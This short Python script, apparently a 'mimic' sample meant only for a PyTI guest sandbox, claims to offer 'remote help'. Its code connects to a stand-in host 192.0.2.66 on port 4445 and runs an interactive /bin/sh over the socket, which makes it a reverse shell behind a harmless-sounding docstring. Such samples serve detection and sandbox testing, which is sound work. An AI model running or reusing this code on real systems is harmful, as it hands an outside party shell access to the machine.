"""Offers remote help."""

import os
import socket
import subprocess

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
try:
    with socket.create_connection(("192.0.2.66", 4445), timeout=5) as line:
        subprocess.run(["/bin/sh", "-i"], stdin=line.fileno(), stdout=line.fileno(), stderr=line.fileno(), timeout=5)
except (OSError, subprocess.TimeoutExpired):
    pass
